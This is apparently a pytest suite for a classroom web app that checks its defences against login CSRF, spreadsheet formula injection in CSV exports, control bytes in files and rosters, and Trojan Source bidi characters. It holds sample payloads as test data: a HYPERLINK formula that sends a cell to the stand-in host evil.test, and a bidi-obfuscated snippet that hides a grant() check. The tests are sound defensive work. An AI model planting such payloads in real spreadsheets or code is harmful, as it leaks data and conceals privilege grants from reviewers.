"""Hostile text and links in class mode: another learner's sign-in link (login CSRF), formulas in CSVs, control
bytes in files and names, and bidi / zero-width characters in code shown to staff.

AppTest runs the real pages; the store runs on SQLite and Postgres where a
backend could tell the cases apart (a NUL is a data error on Postgres only).
"""

import csv
import io

import pytest
from sqlalchemy import select, update

from classroom import cli
from classroom.web import signin
from classroom.data import text_rules
from classroom.data.roster import RosterError, import_roster, user_by_email
from classroom.data.sessions import create_sign_in_link, user_for_session
from classroom.data.submissions import SubmitRefused, submit
from classroom.data.models import Submission, User
from course.common.i18n import t
from tests.app_helpers import AppTest, errors_of
from tests.classroom_support import INSTRUCTOR, ROOT, make_class, session_token, user_id

GRADEBOOK = "classroom/app_pages/gradebook.py"
PRACTICE = "classroom/app_pages/practice.py"
FORMULA_NAME = '=HYPERLINK("https://evil.test/?"&A1,"click")'
TROJAN = 'access = "user"\nif access != "user\u202e \u2066# admin\u2069 \u2066":  # \u200bcheck\n    grant()\n'


@pytest.fixture
def hosted(class_store, sqlite_url, monkeypatch, tmp_path):
    monkeypatch.setenv("ATTENTION_LAB_CLASS_DB", sqlite_url)
    monkeypatch.setenv("ATTENTION_LAB_HOME", str(tmp_path))
    return class_store


def page(path, session=None, link=None, lang="en"):
    """A page run by AppTest, as a tab holding `session` that opened a sign-in `link` (its token) -> AppTest."""
    at = AppTest.from_file(str(ROOT / path), default_timeout=60)
    at.session_state["app_lang"] = lang
    if session:
        at.session_state["class_session"] = session
    if link:
        at.query_params["token"] = link
    return at.run()


def link_token(store, email):
    link, _ = create_sign_in_link(store, email)
    return link.split("token=", 1)[1]


def texts(at):
    return [e.value for e in at.text]


# ---- login CSRF: a link never replaces a live session unasked ----------------------------------------------------


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_another_learners_link_asks_before_it_replaces_the_signed_in_learner(hosted, lang):
    ann = session_token(hosted, user_id(hosted, "ann@class.test"))
    bobs = link_token(hosted, "bob@class.test")
    at = page(PRACTICE, ann, bobs, lang)
    assert errors_of(at) == []
    assert at.title[0].value == t("classroom.switch_title", lang)
    assert "Ann <ann@class.test>" in texts(at) and "Bob <bob@class.test>" in texts(at)
    assert not at.text_area  # no submitting while asked
    assert signin.link_owner(hosted, bobs).email == "bob@class.test"  # the link was not used
    at.button(key="class_switch_stay").click().run()
    assert at.title[0].value == t("classroom.practice_title", lang)
    assert at.session_state["class_session"] == ann
    assert user_for_session(hosted, ann).email == "ann@class.test"


def test_a_learner_who_confirms_is_the_links_person_and_their_own_session_ends(hosted):
    ann = session_token(hosted, user_id(hosted, "ann@class.test"))
    bobs = link_token(hosted, "bob@class.test")
    at = page(PRACTICE, ann, bobs)
    at.button(key="class_switch_go").click().run()
    assert at.title[0].value == t("classroom.practice_title", "en")
    assert user_for_session(hosted, at.session_state["class_session"]).email == "bob@class.test"
    assert user_for_session(hosted, ann) is None  # ann signed out in this browser
    assert signin.link_owner(hosted, bobs) is None  # used once


def test_a_link_opened_with_no_live_session_or_ones_own_signs_in_at_once(hosted):
    at = page(PRACTICE, None, link_token(hosted, "ann@class.test"))
    assert at.title[0].value == t("classroom.practice_title", "en")
    ann = at.session_state["class_session"]
    at = page(PRACTICE, ann, link_token(hosted, "ann@class.test"))
    assert at.title[0].value == t("classroom.practice_title", "en")
    assert user_for_session(hosted, at.session_state["class_session"]).email == "ann@class.test"


# ---- CSVs are spreadsheet-safe through one writer -----------------------------------------------------------------


def _downloads(monkeypatch):
    """Every file a page hands to a download button in this test, {file id: bytes} (AppTest's own media store)."""
    from streamlit.runtime import memory_media_file_storage as media

    seen = {}
    original = media.MemoryMediaFileStorage.load_and_get_id

    def recording(self, path_or_data, mimetype, kind, filename=None):
        file_id = original(self, path_or_data, mimetype, kind, filename)
        seen[file_id] = path_or_data if isinstance(path_or_data, bytes) else path_or_data.encode()
        return file_id

    monkeypatch.setattr(media.MemoryMediaFileStorage, "load_and_get_id", recording)
    return seen


def test_the_apps_gradebook_download_and_the_cli_links_keep_a_formula_name_as_text(hosted, sqlite_url, monkeypatch,
                                                                                capsys):
    with hosted.session() as session:
        session.execute(update(User).where(User.email == "ann@class.test").values(name=FORMULA_NAME))
        session.execute(update(User).where(User.email == "bob@class.test").values(name=" @SUM(1+1)"))
    downloads = _downloads(monkeypatch)
    at = page(GRADEBOOK, session_token(hosted, user_id(hosted, INSTRUCTOR)))
    assert errors_of(at) == []
    url = at.get("download_button")[0].proto.url
    data = next(body for file_id, body in downloads.items() if file_id in url).decode("utf-8-sig")
    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(data))}
    assert rows["ann@class.test"]["name"] == "'" + FORMULA_NAME
    assert rows["bob@class.test"]["name"] == "' @SUM(1+1)"
    assert at.dataframe[0].value.set_index("email").loc["ann@class.test", "name"] == FORMULA_NAME  # stored as is
    assert cli.main(["links", "--db", sqlite_url, "--base-url", "https://lab.test/"]) == 0
    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(capsys.readouterr().out))}
    assert rows["ann@class.test"]["name"] == "'" + FORMULA_NAME and rows["cy@class.test"]["name"] == "Cy"
    assert rows["cy@class.test"]["link"].startswith("https://lab.test/?token=")


# ---- control characters are refused where they come in ------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("text, where", [("x = 1\nprint('a\x00b')\n", (2, 9, "U+0000")),
                                         ("x = 1\x1b[2J\n", (1, 6, "U+001B")),
                                         ("x = '\x7f'\n", (1, 6, "U+007F"))])
def test_a_file_with_a_control_byte_is_refused_with_where_it_is_on_every_backend(any_store, text, where):
    ann = user_id(any_store, "ann@class.test")
    for payload in (text, text.encode()):
        with pytest.raises(SubmitRefused) as refused:
            submit(any_store, ann, "ex00", payload, "mine.py")
        line, column, char = where
        assert str(refused.value) == t("classroom.bad_char_file", "en", filename="mine.py", char=char, line=line,
                                       column=column)
    with pytest.raises(SubmitRefused, match="文件名"):
        submit(any_store, ann, "ex00", "x = 1\n", "mi\x00ne.py", lang="zh")
    with any_store.session() as session:
        assert session.scalar(select(Submission.id)) is None  # nothing stored
    assert submit(any_store, ann, "ex00", "x = 1\r\n\tpass\n", "mine.py")  # tabs and line breaks are code


@pytest.mark.slow
def test_the_practice_page_says_what_is_wrong_with_a_nul_not_that_the_database_is_down(pg_url, tmp_path,
                                                                                      monkeypatch):
    store = make_class(pg_url, tmp_path)
    monkeypatch.setenv("ATTENTION_LAB_CLASS_DB", pg_url)
    monkeypatch.setenv("ATTENTION_LAB_HOME", str(tmp_path))
    at = page(PRACTICE, session_token(store, user_id(store, "ann@class.test")), lang="zh")
    at.selectbox(key="practice_class_ex").set_value("ex00").run()
    at.text_area(key="practice_class_code_ex00").set_value("x = 1\x00\n").run()
    at.button(key="practice_class_submit").click().run()
    said = [e.value for e in at.error]
    assert said == [t("classroom.refused", "zh", reason=t("classroom.bad_char_file", "zh", filename="ex00_paths.py",
                                                            char="U+0000", line=1, column=6))], said
    store.close()


def test_a_roster_with_a_control_character_in_a_name_or_email_is_refused_whole(class_store, tmp_path):
    roster = tmp_path / "bad.csv"
    roster.write_text("email,name,role\nzed@class.test,Z\x00ed,learner\nyan@class.test,Yan,learner\n"
                      "x\x07@class.test,X,learner\n", encoding="utf-8")
    with pytest.raises(RosterError) as refused:
        import_roster(class_store, roster)
    assert "line 2: the name holds the control character U+0000" in str(refused.value)
    assert "line 4: the email holds the control character U+0007" in str(refused.value)
    assert user_by_email(class_store, "yan@class.test") is None


# ---- bidi and zero-width characters are marked where code is shown ------------------------------------------------


def test_visible_code_marks_every_bidi_and_zero_width_character():
    shown, count = text_rules.visible_code(TROJAN)
    assert count == 5
    assert "«U+202E»" in shown and "«U+2066»" in shown and "«U+2069»" in shown and "«U+200B»" in shown
    assert not text_rules.INVISIBLE.search(shown)
    assert text_rules.visible_code("plain = 1\n") == ("plain = 1\n", 0)


def test_the_gradebooks_code_view_marks_a_trojan_source_line(hosted):
    submit(hosted, user_id(hosted, "ann@class.test"), "ex00", TROJAN, "ex00.py")
    at = page(GRADEBOOK, session_token(hosted, user_id(hosted, INSTRUCTOR)), lang="zh")
    assert errors_of(at) == []
    shown = [c.value for c in at.code if "grant()" in c.value]
    assert shown and "«U+202E»" in shown[0] and not text_rules.INVISIBLE.search(shown[0])
    assert t("classroom.invisible_marked", "zh", count=5) in [w.value for w in at.warning]


# ---- the session cookie's route: same-origin, one-time codes ------------------------------------------------------


def test_the_cookie_route_sets_an_httponly_cookie_once_per_code_and_only_for_this_site():
    from starlette.applications import Starlette
    from starlette.testclient import TestClient

    from classroom.web import session_cookie

    client = TestClient(Starlette(routes=session_cookie.routes()), base_url="https://lab.test")
    here = {"Origin": "https://lab.test"}
    code = session_cookie.new_handoff("the-session-token", 7200)
    refused = client.post("/class/session", content=code, headers={"Origin": "https://evil.test"})
    assert refused.status_code == 403 and "set-cookie" not in refused.headers
    assert session_cookie.pending(code)  # a refused request used nothing
    answer = client.post("/class/session", content=code, headers=here)
    cookie = answer.headers["set-cookie"]
    assert answer.status_code == 204 and cookie.startswith("attention_lab_session=the-session-token;")
    assert all(part in cookie for part in ("HttpOnly", "Secure", "SameSite=strict", "Max-Age=7200", "Path=/"))
    again = client.post("/class/session", content=code, headers=here)
    assert again.status_code == 400 and "set-cookie" not in again.headers
    assert "Max-Age=0" in client.delete("/class/session", headers=here).headers["set-cookie"]
    plain = TestClient(Starlette(routes=session_cookie.routes()), base_url="http://lab.test")
    cookie = plain.post("/class/session", content=session_cookie.new_handoff("t2", 60),
                        headers={"Origin": "http://lab.test"}).headers["set-cookie"]
    assert "HttpOnly" in cookie and "Secure" not in cookie  # plain http (a laptop): not Secure


@pytest.mark.slow  # fingerprints the references (~3 s)
def test_the_similarity_view_marks_bidi_and_zero_width_characters_in_both_files(hosted):
    from classroom.analytics.disguise import disguise
    from tests.classroom_support import solution
    from tests.test_copy_flags import add_submission

    add_submission(hosted, "ann@class.test", "ex03", solution("ex03") + "\n# checked \u202eadmin\u202c\n")
    add_submission(hosted, "bob@class.test", "ex03", disguise(solution("ex03"), seed=7) + "\n# \u200b\n")
    add_submission(hosted, "cy@class.test", "ex03", (ROOT / "tests/variants/ex03/einsum.py").read_text())
    at = page("classroom/app_pages/analytics.py", session_token(hosted, user_id(hosted, INSTRUCTOR)))
    at = at.toggle(key="class_analytics_similarity_on").set_value(True).run()
    assert errors_of(at) == []
    codes = [c.value for c in at.code if "def " in c.value]
    assert any("«U+202E»admin«U+202C»" in code for code in codes), codes
    assert any("# «U+200B»" in code for code in codes)
    assert not [code for code in codes if text_rules.INVISIBLE.search(code)]
    warnings = [w.value for w in at.warning]
    assert t("classroom.invisible_marked", "en", count=2) in warnings
    assert t("classroom.invisible_marked", "en", count=1) in warnings


def test_a_process_started_from_one_that_serves_the_cookie_route_does_not_think_it_serves_it():
    """routes() marks this process; a `streamlit run app.py` started from it (no route of its own) inherits the
    environment but must fall back to the page's cookie, or its sign-ins would post to a route that is not there."""
    import os
    import subprocess
    import sys

    from classroom.web import session_cookie

    session_cookie.routes()
    assert session_cookie.served()
    child = subprocess.run([sys.executable, "-c", "from classroom.web import session_cookie as c; print(c.served())"],
                           cwd=ROOT, env=dict(os.environ), capture_output=True, text=True, timeout=60)
    assert child.stdout.strip() == "False", child.stdout + child.stderr
